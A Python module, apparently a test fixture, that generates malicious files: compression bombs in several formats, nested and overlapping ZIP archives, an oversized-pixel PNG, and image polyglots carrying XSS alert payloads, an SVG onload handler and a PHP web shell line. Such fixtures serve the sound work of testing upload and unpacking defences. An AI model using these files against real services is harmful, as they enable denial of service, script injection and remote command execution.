"""Files that are made to do harm."""

from __future__ import annotations

import bz2
import gzip
import lzma
import struct
import zipfile
import zlib
from io import BytesIO

from PIL import Image

ZEROS = b"\0" * 12_000_000


def zipped(**files: bytes) -> bytes:
    """A ZIP archive; dots in names are written as double underscores."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "."), content)
    return out.getvalue()


def nested(depth: int, inmost: bytes) -> bytes:
    """An archive in an archive, and so on."""
    found = inmost
    for _ in range(depth):
        found = zipped(inner__zip=found)
    return found


def quine_like(entries: int = 300) -> bytes:
    """Many entries of the directory that share one packed content, as in the bombs that overlap."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(ZEROS) + packer.flush()
    crc = zlib.crc32(ZEROS)
    sizes = struct.pack("<LLL", crc, len(packed), len(ZEROS))
    out = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 0) + sizes + struct.pack("<HH", 1, 0) + b"a" + packed
    directory = b""
    for number in range(entries):
        name = b"%04d" % number
        directory += b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 0) + sizes
        directory += struct.pack("<HHHHHLL", len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<HHHHLLH", 0, 0, entries, entries, len(directory), len(out), 0)
    return out + directory + b"PK\x05\x06" + end


def picture(kind: str = "PNG", size: tuple[int, int] = (64, 48), color: str = "red") -> bytes:
    """A small picture."""
    out = BytesIO()
    Image.new("RGB", size, color).save(out, kind)
    return out.getvalue()


def huge_picture(width: int = 60_000, height: int = 60_000) -> bytes:
    """A PNG whose header announces billions of pixels, and that packs them into nothing."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack("!L", len(content)) + name + content + struct.pack("!L", zlib.crc32(name + content))

    header = struct.pack("!LLBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1_000_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


BOMBS = {
    "zip": lambda: zipped(zeros__bin=ZEROS),
    "zip of zips": lambda: zipped(**{f"{n}__zip": zipped(zeros__bin=ZEROS[:8_000_000]) for n in range(4)}),
    "zip in zip in zip": lambda: nested(3, zipped(zeros__bin=ZEROS)),
    "too deep": lambda: nested(6, b"x"),
    "overlapping": quine_like,
    "gzip": lambda: gzip.compress(ZEROS),
    "bzip2": lambda: bz2.compress(ZEROS),
    "xz": lambda: lzma.compress(ZEROS),
    "picture": huge_picture,
    "gzip after gzip": lambda: gzip.compress(b"") + gzip.compress(b"x") + gzip.compress(ZEROS),
    "bzip2 after bzip2": lambda: bz2.compress(b"x") + bz2.compress(ZEROS),
    "xz after xz": lambda: lzma.compress(b"x") + lzma.compress(ZEROS),
    "gzip in zip": lambda: zipped(log__gz=gzip.compress(ZEROS)),
    "unpacks itself": lambda: b"MZ" + bytes(100) + zipped(zeros__bin=ZEROS),
}
POLYGLOTS = {
    "GIF and script": b"GIF89a/*" + b"\x00" * 32 + b"*/=1;alert(document.domain)",
    "GIF assigned": b"GIF89a=1;alert(1);" + b"\x00" * 32,
    "GIF and page": b"GIF89a" + b"\x01\x00\x01\x00\x80\x00\x00" + b"<ScRiPt>alert(1)</script>",
    "PNG and page": picture() + b"<html><body>",
    "PNG and PHP": picture()[:-12] + b"<?php system($_GET[0]); ?>" + picture()[-12:],
    "JPEG and archive": picture("JPEG") + zipped(a__txt=b"hidden"),
    "PNG and archive": picture() + zipped(evil__class=b"hidden"),
    "PNG and archive and more": picture() + zipped(evil__class=b"hidden") + b"\n",
    "PNG and PHP in lines": picture() + b"<?php\nsystem($_GET[0]);",
    "PNG and handler": picture() + b"<svg onload=alert(1)>",
    "PNG and document": b"\x89PNG\r\n\x1a\n" + b"%PDF-1.7\n" + b"\0" * 64,
    "PDF and archive": b"%PDF-1.7\n%%EOF\n" + zipped(a__txt=b"hidden"),
}
